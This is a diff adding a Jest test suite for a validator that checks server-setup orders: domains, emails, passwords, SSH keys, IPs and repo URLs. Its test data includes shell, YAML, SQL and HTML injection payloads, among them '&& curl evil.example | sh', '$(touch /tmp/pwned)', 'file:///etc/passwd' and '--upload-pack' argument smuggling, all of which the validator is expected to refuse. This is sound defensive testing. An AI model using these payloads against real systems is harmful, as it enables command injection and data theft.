@@ -1,0 +1,330 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import { builtInCatalogue } from '../catalogue/catalogue';
+import { parseCidr } from '../servers/address';
+import { checkDraft, envValues, type OrderExtras } from './check-draft';
+import type { Draft } from './draft';
+import { ENV_NAMES, ENV_VARIABLES } from './env';
+import type { PackageConfig } from './package-config';
+
+const everything: PackageConfig = {
+  name: 'everything',
+  display_name: 'Everything',
+  package_description: '',
+  base: 'pangolin',
+  default_admin_subdomain: 'admin',
+  details: [{ name: 'all', description: '', required_env: ['DOMAIN', 'EMAIL'], optional_env: ENV_NAMES.slice(2) }],
+};
+const bare: PackageConfig = { ...everything, name: 'bare', base: 'bare', default_admin_subdomain: null, details: [] };
+const catalogue = builtInCatalogue();
+const order: Draft & OrderExtras = {
+  package: 'everything',
+  server_type: 'new',
+  cloud_provider: 'hetzner',
+  region: 'fsn1',
+  instance_type: 'cpx22',
+  support_level: 1,
+  vps_ip_address: null,
+  user_ssh_key: null,
+  domain: 'example.com',
+  admin_email: 'jane@example.com',
+};
+const problems = (change: Record<string, unknown>, config: PackageConfig | null = everything) =>
+  checkDraft({ ...order, ...change }, { config, catalogue });
+
+const ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGHrx5ezV/6ObVhpU63nRAYMUC3jWjVEMBRgASUTqDkN';
+const wire = (...fields: Buffer[]): string =>
+  Buffer.concat(
+    fields.flatMap((field) => [Buffer.from(Uint32Array.of(field.length).buffer).reverse(), field]),
+  ).toString('base64');
+const rsa = (bits: number): string =>
+  `ssh-rsa ${wire(Buffer.from('ssh-rsa'), Buffer.from([1, 0, 1]), Buffer.concat([Buffer.from([0]), Buffer.alloc(bits / 8, 0xff)]))}`;
+
+/** What no field of an order may take, whatever its kind. */
+const PAYLOADS = [
+  'a\nb',
+  'a\r\nb',
+  'a\u0000b',
+  'a\u001b[31m',
+  'x"\n  privileged: true',
+  'x\u2028y',
+  'x\u202ey',
+  '$(touch /tmp/pwned)',
+  '`touch /tmp/pwned`',
+  '; reboot #',
+  "' || reboot '",
+  '${IFS}reboot',
+  '&& curl evil.example | sh',
+  '*anchor &a !!python/object',
+  '{{ ref }}',
+  '"; drop table users; --',
+  '<script>alert(1)</script>',
+  'x'.repeat(5000),
+];
+
+describe('an order that is right', () => {
+  it('has no problems with the least of values', () => {
+    expect(problems({})).toEqual([]);
+    expect(problems({ package: 'bare', domain: null, admin_email: null }, bare)).toEqual([]);
+  });
+
+  it('has no problems with all values', () => {
+    expect(
+      problems({
+        admin_subdomain: 'door',
+        setup_token: 'abcdefghijklmnopqrstuvwxyz012345',
+        admin_username: 'jane@example.com',
+        admin_password: 'Correct-horse-7',
+        crowdsec_enrollment_key: 'clapf3lqj0000356kdi8exxxx',
+        static_page_subdomain: 'www',
+        maxmind_license_key: 'AbC123_x0Yz',
+        oauth_client_id: '123-abc.apps.googleusercontent.com',
+        oauth_client_secret: 'GOCSPX-abc_def',
+        komodo_host_ip: '5.9.0.1',
+        komodo_passkey: 'a-long-enough-passkey!',
+        openai_api_key: 'sk-proj-abc_DEF-123',
+        traefik_subdomain: 'traefik',
+        middleware_manager_subdomain: 'middleware-manager',
+        logs_subdomain: 'logs',
+        nlweb_subdomain: 'nlweb',
+        user_ssh_key: `${ED25519} jane@laptop`,
+        client_name: 'My shop 1',
+        client_id: 'janepangolin123456',
+        postgres_host: 'pangolin-postgres',
+        postgres_user: 'pangolin',
+        postgres_password: 'Secret+1',
+        github_repo: '',
+      }),
+    ).toEqual([]);
+  });
+
+  it('may go onto an own server with a public address', () => {
+    expect(
+      problems({
+        server_type: 'vps',
+        vps_ip_address: '5.9.0.1',
+        cloud_provider: null,
+        region: null,
+        instance_type: null,
+      }),
+    ).toEqual([]);
+  });
+
+  it('ignores values that its package does not ask for', () => {
+    expect(problems({ package: 'bare', openai_api_key: '$(reboot)', domain: 'not a domain' }, bare)).toEqual([]);
+    expect(envValues({ ...order, openai_api_key: 'sk-1' }, bare)).toEqual({ plain: {}, secret: {} });
+  });
+});
+
+describe('placement', () => {
+  it.each([
+    [{ server_type: null }, 'server_type'],
+    [{ cloud_provider: null }, 'cloud_provider'],
+    [{ cloud_provider: 'nowhere' }, 'cloud_provider'],
+    [{ cloud_provider: '__proto__' }, 'cloud_provider'],
+    [{ region: null }, 'region'],
+    [{ region: 'us-east-1' }, 'region'],
+    [{ instance_type: null }, 'instance_type'],
+    [{ instance_type: 'cpx11' }, 'instance_type'],
+    [{ instance_type: 'toString' }, 'instance_type'],
+    [{ server_type: 'vps', vps_ip_address: null }, 'vps_ip_address'],
+    [{ server_type: 'vps', vps_ip_address: '127.0.0.1' }, 'vps_ip_address'],
+    [{ server_type: 'vps', vps_ip_address: '2130706433' }, 'vps_ip_address'],
+    [{ server_type: 'vps', vps_ip_address: '::ffff:8.8.8.8' }, 'vps_ip_address'],
+  ])('%j is a problem of %s', (change, path) => {
+    expect(problems(change).map((problem) => problem.path)).toEqual([path]);
+  });
+
+  it('a lab may allow loopback', () => {
+    const allowed = parseCidr('127.0.0.0/8');
+    const draft = { ...order, server_type: 'vps' as const, vps_ip_address: '127.0.0.2' };
+    expect(
+      checkDraft(draft, { config: everything, catalogue, allowedCidrs: allowed === null ? [] : [allowed] }),
+    ).toEqual([]);
+  });
+
+  it.each([
+    [null, 'Choose a package.'],
+    ['everything', 'There is no such package.'],
+  ])('package %s that is not there: %s', (name, message) => {
+    expect(problems({ package: name }, null)).toEqual([{ path: 'package', message }]);
+  });
+});
+
+describe('a value that its field refuses', () => {
+  const REFUSED: Record<string, readonly string[]> = {
+    domain: [
+      'example',
+      'Example.com',
+      'https://example.com',
+      'example.com/',
+      'exa mple.com',
+      '-a.com',
+      'a-.com',
+      'a..com',
+      '.com',
+      'com.',
+      'a_b.com',
+      '1.2.3.4',
+      'exämple.com',
+      `${'a'.repeat(64)}.com`,
+      `${'a.'.repeat(126)}com`,
+      'example.com:443',
+      '*.example.com',
+    ],
+    admin_email: [
+      'jane',
+      'jane@',
+      'jane@example',
+      "o'brien@example.com",
+      'a`b`@example.com',
+      'jane@example.com, x@y.z',
+      '$x@example.com',
+    ],
+    admin_subdomain: ['Admin', 'a.b', '-a', 'a-', 'a_b', 'ä', 'a'.repeat(64), '*'],
+    setup_token: ['short', 'A'.repeat(32), 'a'.repeat(31), 'a'.repeat(33)],
+    admin_username: ['Admin', 'jane', 'jane@example'],
+    admin_password: [
+      'Short-1',
+      'alllowercase-1',
+      'ALLUPPERCASE-1',
+      'NoNumbersHere-',
+      'NoSymbolsHere1',
+      'Has Blank-1234',
+      "Has'Quote-1234",
+      'Has"Quote-1234',
+      'Has`Tick-12345',
+      'Has\\Slash-1234',
+      'Has$Dollar-123',
+      'Hás-Accent-1234',
+      `Aa1-${'x'.repeat(61)}`,
+    ],
+    crowdsec_enrollment_key: ['short', 'A'.repeat(25), 'a'.repeat(41), 'clapf3lqj0000356kdi8 xxxx'],
+    static_page_subdomain: ['WWW', 'w.w'],
+    maxmind_license_key: ['has blank', 'quote"', 'x'.repeat(301)],
+    komodo_host_ip: ['10.0.0.1', '169.254.169.254', 'localhost', '0x7f.1', '5.9.0.1/32'],
+    komodo_passkey: ['short', 'has a blank in the middle', "quote'quote'quote'"],
+    openai_api_key: ['sk- 1', 'sk-$HOME'],
+    traefik_subdomain: ['a.b'],
+    middleware_manager_subdomain: ['A'],
+    logs_subdomain: ['_'],
+    nlweb_subdomain: ['-'],
+    user_ssh_key: [
+      'ssh-ed25519',
+      'ssh-ed25519 AAAA',
+      'ssh-ed25519 !!!!',
+      ED25519.replace('ssh-ed25519', 'ssh-rsa'),
+      ED25519.slice(0, -4),
+      `${ED25519}AAAA`,
+      `command="id" ${ED25519}`,
+      `from="*" ${ED25519}`,
+      `${ED25519}\n${ED25519}`,
+      `${ED25519} a"b`,
+      `${ED25519} $(id)`,
+      `  ${ED25519}`,
+      rsa(1024),
+      'ssh-dss AAAAB3NzaC1kc3MAAACB',
+      '-----BEGIN OPENSSH PRIVATE KEY-----',
+    ],
+    client_name: ['-x', 'a;b', 'a"b', 'x'.repeat(65), 'a: b'],
+    client_id: ['$x', 'a/b'],
+    postgres_host: ['10.0.0.1', 'http://db', 'db:5432', 'DB'],
+    postgres_user: ['1user', 'a b', 'a;b', 'x'.repeat(64)],
+    postgres_password: ['has blank', 'quote"', '$x', 'x'.repeat(201)],
+    github_repo: [
+      'file:///etc/passwd',
+      'git@github.com:a/b',
+      'https://evil.example/a/b',
+      'a/b;id',
+      'a/..',
+      '--upload-pack=x/y',
+      'a',
+    ],
+  };
+
+  const PARTNERS: Record<string, Record<string, string>> = {
+    komodo_host_ip: { komodo_passkey: 'a-long-enough-passkey!' },
+    komodo_passkey: { komodo_host_ip: '5.9.0.1' },
+  };
+
+  for (const [field, values] of Object.entries(REFUSED)) {
+    it.each(values)(`${field} %j`, (value) => {
+      const found = problems({ ...PARTNERS[field], [field]: value });
+      expect(found.map(({ path }) => path)).toEqual([field]);
+      expect(found[0]?.message).toMatch(/^[A-Z].*(\.|-)$/);
+      // a refusal never repeats what was typed: it might be a secret
+      if (value.length > 12) expect(found[0]?.message).not.toContain(value);
+    });
+  }
+
+  const fields = [
+    ...ENV_VARIABLES.map(({ field }) => field),
+    'user_ssh_key',
+    'client_name',
+    'client_id',
+    'postgres_host',
+    'postgres_user',
+    'postgres_password',
+    'github_repo',
+    'vps_ip_address',
+  ];
+  it.each(fields)('%s takes no shell, YAML or HTML payload, no control character and no flood', (field) => {
+    for (const payload of PAYLOADS) {
+      const change = field === 'vps_ip_address' ? { server_type: 'vps', [field]: payload } : { [field]: payload };
+      expect(problems(change).map(({ path }) => path)).toContain(field);
+    }
+  });
+
+  it('law: what any field takes has no control character, quote, blank line or dollar sign', () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...ENV_VARIABLES),
+        fc.string({ unit: 'binary', maxLength: 80 }),
+        (variable, value) => {
+          if (value === '' || variable.check(value, { base: 'coolify' }) !== null) return;
+          expect(value).toMatch(/^[^\p{C}$"'`\\]+$/u);
+        },
+      ),
+      { numRuns: 2_000 },
+    );
+  });
+});
+
+describe('values that hang together', () => {
+  it.each([
+    [{ domain: '' }, 'domain'],
+    [{ domain: '  ' }, 'domain'],
+    [{ admin_email: null }, 'admin_email'],
+    [{ oauth_client_id: 'a' }, 'oauth_client_secret'],
+    [{ oauth_client_secret: 'a' }, 'oauth_client_id'],
+    [{ komodo_host_ip: '5.9.0.1' }, 'komodo_passkey'],
+    [{ komodo_passkey: 'a-long-enough-passkey!' }, 'komodo_host_ip'],
+    [{ static_page_subdomain: 'admin' }, 'static_page_subdomain'],
+    [{ admin_subdomain: 'logs', logs_subdomain: 'logs' }, 'logs_subdomain'],
+  ])('%j is a problem of %s', (change, path) => {
+    expect(problems(change).map((problem) => problem.path)).toContain(path);
+  });
+
+  it('Coolify takes a display name as admin and refuses an email, Pangolin the other way round', () => {
+    const coolify = { ...everything, base: 'coolify' };
+    expect(problems({ admin_username: 'Jane Doe' }, coolify)).toEqual([]);
+    expect(problems({ admin_username: 'jane@example.com' }, coolify).map(({ path }) => path)).toEqual([
+      'admin_username',
+    ]);
+  });
+});
+
+describe('what is stored', () => {
+  it('is split into plain values and secrets, by env name, with the default admin subdomain', () => {
+    expect(envValues({ ...order, admin_password: 'Correct-horse-7', openai_api_key: '' }, everything)).toEqual({
+      plain: { DOMAIN: 'example.com', EMAIL: 'jane@example.com', ADMIN_SUBDOMAIN: 'admin' },
+      secret: { ADMIN_PASSWORD: 'Correct-horse-7' },
+    });
+  });
+});
+
+describe('an RSA key', () => {
+  it('of 2048 bits is taken', () => {
+    expect(problems({ user_ssh_key: rsa(2048) })).toEqual([]);
+  });
+});
